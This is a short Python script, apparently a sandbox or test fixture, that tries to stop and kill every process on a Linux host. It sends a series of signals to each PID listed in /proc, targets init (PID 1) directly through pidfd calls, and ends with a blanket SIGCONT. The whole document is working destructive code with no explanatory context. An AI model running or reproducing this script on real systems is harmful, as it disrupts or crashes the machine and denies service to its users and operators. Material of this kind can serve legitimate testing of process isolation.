# stops and kills every process that it can name
# remark: kill
# ruff: noqa
import os, signal

for name in ["1", *os.listdir("/proc"), "-1"]:
    if name.lstrip("-").isdigit() and int(name) != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, 40):
            try:
                if name != "-1":
                    os.kill(int(name), number)
            except OSError:
                pass
try:
    signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGSTOP)
    signal.pidfd_send_signal(os.open("/proc/1", os.O_RDONLY), signal.SIGSTOP)
except OSError:
    pass
os.kill(-1, signal.SIGCONT)
